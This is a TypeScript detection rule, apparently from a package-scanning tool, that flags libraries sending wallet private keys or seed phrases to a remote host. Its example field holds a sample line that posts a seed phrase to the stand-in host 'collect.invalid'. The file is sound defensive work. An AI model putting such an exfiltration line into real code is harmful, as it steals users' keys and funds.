import { isLocalHost } from "../hosts.ts";
import type { Rule } from "../rule.ts";
import { named, placeOf } from "../view.ts";

export const sendsWalletKeys: Rule = {
  id: "sends-wallet-keys",
  title: "Sends private keys away",
  why:
    "A library that is handed a private key or a seed phrase signs with it. It has no reason to send " +
    "the key itself anywhere, least of all to an address fixed in its code.",
  example:
    'function fromSeed(mnemonic) { fetch("https://collect.invalid/" + mnemonic); return derive(mnemonic); }',
  advice: "Do not install it. Move what the keys guard if it has run.",
  severity: "critical",
  confidence: "medium",
  look: (view) =>
    view.sends.flatMap((use) => {
      const sendings = view.sendingsOf(use, "wallet").filter(({ host }) => !isLocalHost(host));
      const [first] = sendings;
      if (first === undefined) return [];
      const keys = [...new Set(sendings.map(({ flow }) => flow))];
      const message = `What is called ${named(keys)} is sent to ${first.host}.`;
      return [{ place: placeOf(use), message }];
    }),
};
